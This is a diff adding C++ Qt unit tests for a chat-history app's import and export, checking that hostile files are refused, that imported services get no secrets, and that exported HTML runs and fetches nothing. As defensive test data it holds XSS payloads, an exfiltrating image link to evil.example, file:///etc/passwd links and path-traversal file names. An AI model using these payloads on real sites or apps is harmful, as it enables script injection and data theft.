@@ -3,9 +3,11 @@
 #include "store/conversationstore.h"
 
 #include <QBuffer>
+#include <QDir>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
+#include <QRegularExpression>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -28,6 +30,13 @@ private Q_SLOTS:
     void exportOfOneConversationHasItsFolder();
     void brokenFileChangesNothing_data();
     void brokenFileChangesNothing();
+    void messageOfAnotherConversationIsRefused();
+    void importTakesNoThreadAway();
+    void importedServiceGetsNoSecrets();
+    void servicesOfARunAreNotImported();
+    void namesAreOnlyText();
+    void longChainIsImported();
+    void lastOfEqualMembersCounts();
     void fileCutAnywhereChangesNothing();
     void cancelledImportChangesNothing();
     void newerFormatIsRefused();
@@ -35,6 +44,7 @@ private Q_SLOTS:
     void exportsOneConversation();
     void exportsMarkdown();
     void htmlHasNothingThatRuns();
+    void htmlFetchesNothing();
     void failedExportLeavesTheOldFile();
     void cancelledExportLeavesTheOldFile();
 
@@ -375,6 +385,45 @@ void tst_Exchange::brokenFileChangesNothing_data()
             + "]}]}" << u"conversation 2: message 2"_s;
     QTest::newRow("parent missing") << head + good + ',' + openConversation + message + ',' + orphan + "]}]}"
                                     << u"message 2: its parent"_s;
+    QTest::newRow("parents in a circle")
+        << head + openConversation + QByteArray(orphan).replace("0009", "0003") + ',' + message + "]}]}"
+        << u"message 1: its parent"_s;
+    QTest::newRow("its own parent") << head + openConversation + QByteArray(orphan).replace("0009", "0004")
+            + "]}]}" << u"message 1: its parent"_s;
+    QTest::newRow("message in two conversations") << head + openConversation + message + "]},"
+            + QByteArray(openConversation).replace("0002", "0008") + message
+            + "]}]}" << u"conversation 2: message 1: its id stands in another"_s;
+    QTest::newRow("messages twice") << head + openConversation + message + R"(],"messages":[)" + message
+            + "]}]}" << u"twice"_s;
+    const auto times = {std::pair("huge time", "1e300"),
+                        std::pair("later than years have names", "253402300800000"),
+                        std::pair("earlier than that", "-9223372036854775808"),
+                        std::pair("broken time", "1.5"), std::pair("wide time", "9223372036854775808")};
+    for (const auto &time : times) {
+        QByteArray member = R"("created_ms":)";
+        member += time.second;
+        QByteArray late = message;
+        late.replace(R"("created_ms":1)", member);
+        QTest::newRow(time.first) << head + openConversation + late + "]}]}" << u"“created_ms”"_s;
+    }
+    QTest::newRow("number that no program reads") << head + openConversation
+            + QByteArray(message).replace(R"("created_ms":1)", R"("created_ms":1e999)")
+            + "]}]}" << u"byte"_s;
+    QTest::newRow("attachment that is no base64") << head + openConversation
+            + QByteArray(message).replace(
+                R"("content":"c")",
+                R"("attachments":[{"id":"0192a000-0000-7000-8000-00000000000a","data":"%"}])")
+            + "]}]}" << u"“data”"_s;
+    const QByteArray service =
+        R"({"format":"bobbin-history","version":1,"services":[{"id":"0192a000-0000-7000-8000-00000000000b",)"
+        R"("name":"s","api_kind":"chat_completions","base_url":"https://a.example/v1"}]})";
+    QTest::newRow("service in a file")
+        << QByteArray(service).replace("https://a.example/v1", "file:///etc") << u"“base_url”"_s;
+    QTest::newRow("service with endless patience")
+        << QByteArray(service).replace(R"("name")", R"("idle_ms":99999999999,"name")") << u"“idle_ms”"_s;
+    QTest::newRow("deep inside") << head + openConversation + R"({"x":)" + QByteArray("[").repeated(10'000)
+            + QByteArray("]").repeated(10'000)
+            + "}]}]}" << u"deep"_s;
     QTest::newRow("unknown role") << head + good + ',' + openConversation
             + R"({"id":"0192a000-0000-7000-8000-000000000005","role":"king","created_ms":1,"updated_ms":1}]}]})"
                                   << u"“role”"_s;
@@ -399,6 +448,149 @@ void tst_Exchange::brokenFileChangesNothing()
     QCOMPARE(report.error().kind, ExchangeError::Kind::Malformed);
     QVERIFY2(explain(report.error(), u"f"_s).contains(place), qPrintable(report.error().detail));
     QCOMPARE(exported(*store), before);
+}
+
+// Whatever the order: what was refused has left nothing behind, also in conversations that are known.
+void tst_Exchange::messageOfAnotherConversationIsRefused()
+{
+    const auto store = createStore();
+    fill(*store);
+    const QByteArray before = exported(*store);
+    QByteArray more = exported(*store, {ExportFormat::Json, {m_rich}});
+    const QByteArray newMessage =
+        R"({"id":"0192a000-0000-7000-8000-000000000003","role":"user","created_ms":1,"updated_ms":1},)";
+    const QByteArray thief =
+        R"({"id":"0192a000-0000-7000-8000-000000000001","title":"t","created_ms":1,"active_ms":1,"updated_ms":1,)"
+        R"("messages":[{"id":")"
+        + m_root.toString().toLatin1() + R"(","role":"user","created_ms":1,"updated_ms":1}]})";
+    const qsizetype messages = more.indexOf('[', more.indexOf(R"("messages")")) + 1;
+    more.insert(messages, newMessage);
+    more.insert(more.lastIndexOf(']'), ',' + thief);
+
+    const auto report = import(*store, more);
+
+    QVERIFY(!report);
+    QVERIFY2(report.error().detail.contains("conversation 2: message 1"_L1),
+             qPrintable(report.error().detail));
+    QCOMPARE(exported(*store), before);
+}
+
+void tst_Exchange::importTakesNoThreadAway()
+{
+    const auto store = createStore();
+    fill(*store);
+    const QList<ServerThread> before = store->serverThreads().of(m_rich).value();
+    const QByteArray thief =
+        R"({"format":"bobbin-history","version":1,"conversations":[{"id":"0192a000-0000-7000-8000-000000000001",)"
+        R"("title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"messages":[],"server_threads":[{"id":")"
+        + before.constFirst().id.toString().toLatin1()
+        + R"(","strategy":"conversation","remote_id":"conv_evil","created_ms":1,"used_ms":9000000000000}]}]})";
+
+    QVERIFY(import(*store, thief));
+
+    QCOMPARE(store->serverThreads().of(m_rich).value(), before);
+}
+
+void tst_Exchange::importedServiceGetsNoSecrets()
+{
+    const auto store = createStore();
+
+    QVERIFY(import(*store, R"({"format":"bobbin-history","version":1,"services":[{
+        "id":"0192a000-0000-7000-8000-00000000000b","name":"s","api_kind":"chat_completions",
+        "base_url":"https://evil.example/v1","key_account":"API key for OpenAI 123456",
+        "network":{"passphrase_account":"API key for OpenAI 123456","client_certificate":"/c.pem",
+            "proxy":{"kind":"http","host":"evil.example","port":80,
+                "password_account":"API key for OpenAI 123456"}}}]})"));
+
+    const Service service = store->services().all()->constFirst();
+    QCOMPARE(service.network.proxy.host, u"evil.example"_s);
+    QCOMPARE(service.network.proxy.passwordAccount, QString());
+    QCOMPARE(service.network.passphraseAccount, QString());
+    QCOMPARE(service.keyAccount, QString());
+}
+
+// The service of the environment has a key without asking the keychain.
+void tst_Exchange::servicesOfARunAreNotImported()
+{
+    const auto store = createStore();
+
+    for (const ServiceId &id : {environmentServiceId(), practiceServiceId()}) {
+        QVERIFY(import(
+            *store,
+            R"({"format":"bobbin-history","version":1,"services":[{"id":")" + id.toString().toLatin1()
+                + R"(","name":"s","api_kind":"chat_completions","base_url":"https://evil.example"}]})"));
+    }
+
+    QVERIFY(store->services().all()->isEmpty());
+}
+
+void tst_Exchange::namesAreOnlyText()
+{
+    const QStringList names {u"../../.bashrc"_s, u"/etc/passwd"_s, u"a"_s + QChar(0) + u"b"_s,
+                             u"\u202Egpj.exe"_s, QString(10'000, u'x')};
+    const auto from = createStore();
+    Conversation conversation;
+    conversation.id = ConversationId::create();
+    QVERIFY(from->conversations().insert(conversation));
+    Message message;
+    message.id = MessageId::create();
+    QVERIFY(from->messages().append(conversation.id, message));
+    for (const QString &name : names)
+        QVERIFY(from->attachments().insert(message.id, {AttachmentId::create(), name, name, "data"}));
+    const QByteArray file = exported(*from);
+    const auto to = createStore();
+    const QStringList before = QDir(m_dir->path()).entryList(QDir::AllEntries | QDir::Hidden);
+
+    QVERIFY(import(*to, file));
+
+    QStringList kept;
+    const QList<Attachment> attachments = to->attachments().of(message.id).value();
+    for (const Attachment &attachment : attachments)
+        kept << attachment.name;
+    QCOMPARE(kept, names);
+    QCOMPARE(exported(*to), file);
+    // The import's own file, and nothing that an attachment asked for.
+    QVERIFY(QDir(m_dir->path()).entryList(QDir::AllEntries | QDir::Hidden).size() <= before.size() + 1);
+}
+
+// Each message below the one before: whatever goes down a tree by calling itself would fall.
+void tst_Exchange::longChainIsImported()
+{
+    constexpr int number = 30'000;
+    const auto id = [](int i) -> QByteArray {
+        return "0192a000-0000-7000-8000-" + QByteArray::number(i, 16).rightJustified(12, '0');
+    };
+    QByteArray file =
+        R"({"format":"bobbin-history","version":1,"conversations":[{"id":"0192a000-0000-7000-9000-000000000000",)"
+        R"("title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"leaf":")"
+        + id(number - 1) + R"(","messages":[)";
+    for (int i = 0; i < number; ++i) {
+        file += (i > 0 ? R"(,{"parent":")" + id(i - 1) + R"(",)" : QByteArray("{")) + R"("id":")" + id(i)
+            + R"(","role":"user","created_ms":1,"updated_ms":1,"content":"c"})";
+    }
+    file += "]}]}";
+    const auto store = createStore();
+
+    const auto report = import(*store, file);
+
+    QCOMPARE(report->messages, number);
+    const MessageId leaf = MessageId::fromString(QString::fromLatin1(id(number - 1)));
+    QCOMPARE(store->messages().branch(leaf, number - 2, number - 1)->size(), 2);
+    QVERIFY(exported(*store).size() > file.size());
+    QCOMPARE(
+        store->branches().tree(ConversationId::fromString(u"0192a000-0000-7000-9000-000000000000"_s))->size(),
+        number);
+}
+
+void tst_Exchange::lastOfEqualMembersCounts()
+{
+    const auto store = createStore();
+
+    QVERIFY(import(*store, R"({"format":"bobbin-history","version":1,"conversations":[{
+        "id":"0192a000-0000-7000-8000-000000000001","title":"first","title":"second","created_ms":1,"active_ms":1,
+        "updated_ms":1}]})"));
+
+    QCOMPARE(store->conversations().page({}, 1)->conversations.first().title, u"second"_s);
 }
 
 void tst_Exchange::fileCutAnywhereChangesNothing()
@@ -502,6 +694,54 @@ void tst_Exchange::htmlHasNothingThatRuns()
 
     QVERIFY(html.contains("&lt;script&gt;alert(2)&lt;/script&gt;"));
     QVERIFY(!html.contains("<script"));
+}
+
+// Also for programs that know nothing of the policy at its head.
+void tst_Exchange::htmlFetchesNothing()
+{
+    const auto store = createStore();
+    Conversation conversation;
+    conversation.id = ConversationId::create();
+    conversation.title = u"</title><img src=x onerror=alert(1)>"_s;
+    conversation.instructions = u"</blockquote><script>alert(1)</script>"_s;
+    QVERIFY(store->conversations().insert(conversation));
+    Message reply;
+    reply.id = MessageId::create();
+    reply.role = Role::Assistant;
+    reply.model = u"<iframe src=https://evil.example>"_s;
+    reply.content =
+        u"![pixel](https://evil.example/?q=secret) [run](javascript:alert(1)) [file](file:///etc/passwd)\n\n"
+        "[data](data:text/html,<script>) <img src=https://evil.example onerror=alert(1)> "
+        "<style>@import 'https://evil.example'</style>\n\n"
+        "[a](https://good.example/\"onmouseover=alert(1)) "
+        "![b](data:image/png;base64,AA\"onerror=alert(1))\n\n"
+        "```\"><script>alert(1)</script>\ncode\n```\n\n<https://good.example/auto>\n"_s;
+    QVERIFY(store->messages().append(conversation.id, reply));
+
+    const QString html = QString::fromUtf8(exported(*store, {ExportFormat::Html, {conversation.id}}));
+
+    QVERIFY(html.contains("Content-Security-Policy\" content=\"default-src 'none'"_L1));
+    static const QRegularExpression tag(u"<([a-z0-9]+)((?:\\s[^<>]*)?)>"_s);
+    static const QRegularExpression attribute(
+        u"^(?:\\s(?:rel|href|dir|align|src|alt|start)=\"[^\"<>]*\")*$"_s);
+    const QStringList harmless {u"article"_s, u"h1"_s, u"h2"_s,  u"blockquote"_s, u"section"_s, u"p"_s,
+                                u"em"_s,      u"a"_s,  u"img"_s, u"br"_s,         u"pre"_s,     u"code"_s};
+    const QString body = html.mid(html.indexOf("<body>"_L1) + 6);
+    int links = 0;
+    for (auto it = tag.globalMatch(body); it.hasNext();) {
+        const auto found = it.next();
+        const QString attributes = found.captured(2);
+        QVERIFY2(harmless.contains(found.captured(1)), qPrintable(found.captured()));
+        QVERIFY2(attribute.match(attributes).hasMatch(), qPrintable(found.captured()));
+        QVERIFY2(!attributes.contains("src="_L1) || attributes.contains(" src=\"data:image/"_L1),
+                 qPrintable(found.captured()));
+        if (!attributes.contains("href="_L1))
+            continue;
+        ++links;
+        QVERIFY2(attributes.contains(" href=\"https://"_L1), qPrintable(found.captured()));
+    }
+    QVERIFY(links >= 3);
+    QCOMPARE(body.count(u'<'), body.count(u'>'));
 }
 
 void tst_Exchange::failedExportLeavesTheOldFile()
